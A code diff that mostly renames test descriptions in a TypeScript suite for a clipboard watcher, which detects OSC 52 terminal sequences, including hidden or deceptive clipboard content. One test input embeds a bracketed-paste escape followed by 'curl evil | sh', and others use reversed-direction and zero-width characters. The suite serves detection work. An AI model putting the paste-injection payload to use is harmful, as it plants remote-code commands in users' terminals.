@@ -6,7 +6,7 @@ import { ClipboardWatch } from './clipboard.js';
 const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
 const write = (text: string | Buffer, end = '\x07'): string => `\x1b]52;c;${base64(text)}${end}`;
 
-/** Shown in pieces of these sizes, with a pause between. */
+/** The facts about output shown in pieces of these sizes, with a pause between them. */
 function told(output: string | Buffer, sizes: readonly number[] = [], pauseMs = 0): readonly ClipboardFact[] {
   const watch = new ClipboardWatch();
   const bytes = Buffer.from(output as string);
@@ -21,7 +21,7 @@ function told(output: string | Buffer, sizes: readonly number[] = [], pauseMs = 
   return [...facts, ...watch.end()];
 }
 
-describe('what programs do to the clipboard', () => {
+describe('clipboard accesses by programs', () => {
   it.each<[string, string | Buffer, readonly Partial<ClipboardFact>[]]>([
     ['a write', write('hello'), [{ action: 'write', selection: 'c', count: 1, bytes: 5, largest: 5, hides: false }]],
     ['one that ends in ESC \\', write('hello', '\x1b\\'), [{ bytes: 5 }]],
@@ -30,14 +30,14 @@ describe('what programs do to the clipboard', () => {
     ['one by way of tmux', `\x1bPtmux;\x1b${write('hello')}\x1b\\`, [{ bytes: 5 }]],
     ['one by way of tmux that ends in ESC \\', `\x1bPtmux;\x1b\x1b]52;c;${base64('hello')}\x1b\x1b\\\x1b\\`, [{ bytes: 5 }]],
     ['one by way of screen', `\x1bP${write('hello')}\x1b\\`, [{ bytes: 5 }]],
-    ['a question', '\x1b]52;c;?\x07', [{ action: 'read', bytes: 0 }]],
+    ['a query', '\x1b]52;c;?\x07', [{ action: 'read', bytes: 0 }]],
     ['several lines of text', write('a\tb\r\nc\n'), [{ hides: false }]],
     ['a file of 300 KiB', write(Buffer.alloc(300 << 10, 'text ')), [{ bytes: 300 << 10, largest: 300 << 10, hides: false }]],
     ['the end of a bracketed paste in the text', write('ls\x1b[201~\rcurl evil | sh\r'), [{ hides: true }]],
-    ['text that is turned around', write('echo \u202esafe'), [{ hides: true }]],
-    ['text without width', write('a\u200bb'), [{ hides: true }]],
+    ['text with its direction reversed', write('echo \u202esafe'), [{ hides: true }]],
+    ['text of zero width', write('a\u200bb'), [{ hides: true }]],
     ['an emoji of several characters, and other scripts', write('👩‍💻 שלום مرحبا'), [{ hides: false }]],
-    ['a character that is cut by the pieces of decoding', write('é'.repeat(100_000)), [{ bytes: 200_000, hides: false }]],
+    ['a character that is cut between decoded pieces', write('é'.repeat(100_000)), [{ bytes: 200_000, hides: false }]],
     ['one that another sequence cuts off', `\x1b]52;c;aGVs\x1b[0mbG8=\x07`, []],
     ['one that is cut off by another', `\x1b]52;c;aGVs${write('hello')}`, [{ bytes: 5 }]],
     ['one that is cancelled', `\x1b]52;c;aGVsbG8=\x18 and on`, []],
@@ -45,7 +45,7 @@ describe('what programs do to the clipboard', () => {
     ['one that clears the clipboard', '\x1b]52;c;\x07', []],
     ['another command of the terminal', '\x1b]520;c;aGVsbG8=\x07\x1b]0;52;c;aGVsbG8=\x07', []],
     ['colours', '\x1b[38;5;252;48;5;52mtext\x1b[0m 52;c;aGVsbG8=\x07', []],
-    ['a selection that is none', `\x1b]52;${'c'.repeat(100)};aGVsbG8=\x07`, []],
+    ['an invalid selection', `\x1b]52;${'c'.repeat(100)};aGVsbG8=\x07`, []],
   ])('%s', (_, output, expected) => {
     const facts = told(output);
     expect(facts).toHaveLength(expected.length);
@@ -59,7 +59,7 @@ describe('what programs do to the clipboard', () => {
     ).toEqual(facts);
   });
 
-  it('is the same however the output is cut into pieces', () => {
+  it('are the same however the output is cut into pieces', () => {
     const piece = fc.oneof(
       fc.string({ maxLength: 20, unit: 'binary' }).map((text) => write(text)),
       fc.constantFrom('\x1b', '\x1b]', '\x1b]5', '\x1b]52;', '\x1b]52;c;', 'aGVs', ';', '\x07', '\x1b\\', '\u009d52;', '\u009c', '\u009d', '?', '\x18', 'text'),
@@ -74,7 +74,7 @@ describe('what programs do to the clipboard', () => {
     );
   });
 
-  it('any text that is written is told of with its length', () => {
+  it('are recorded with the length of any text written', () => {
     fc.assert(
       fc.property(fc.uint8Array({ minLength: 1, maxLength: 2_000 }), (bytes) => {
         expect(told(`before ${write(Buffer.from(bytes))} after`)).toMatchObject([{ count: 1, bytes: bytes.length, largest: bytes.length }]);
@@ -82,15 +82,15 @@ describe('what programs do to the clipboard', () => {
     );
   });
 
-  it('takes time in proportion to what is shown, however many sequences that are', () => {
+  it('take time proportional to the output, however many sequences it has', () => {
     const watch = new ClipboardWatch();
     const bytes = Buffer.from('\x1b]52;c;?\x07'.repeat(400_000));
-    // Looking for the other introducer behind each sequence would take hours.
+    // A search for the other introducer after each sequence would take hours.
     const facts = [...watch.shown(bytes, 0), ...watch.end()];
     expect(facts.reduce((sum, { count }) => sum + count, 0)).toBe(400_000);
   });
 
-  it('what one second brings is told together, and none of it is lost', () => {
+  it('within one second are recorded together, and none is lost', () => {
     const many = write('12345').repeat(1_000);
     const facts = told(many + write('\x07\x07'));
     expect(facts).toMatchObject([
@@ -105,7 +105,7 @@ describe('what programs do to the clipboard', () => {
     expect(slowly.map(({ count }) => count)).toEqual(Array.from({ length: 10 }, () => 1));
   });
 
-  it('tells of what has waited once its second is over', () => {
+  it('that waited are recorded once their second is over', () => {
     const watch = new ClipboardWatch();
     expect(watch.dueAt).toBe(Infinity);
     expect(watch.shown(Buffer.from(write('a') + write('bb')), 500)).toMatchObject([{ bytes: 1 }]);
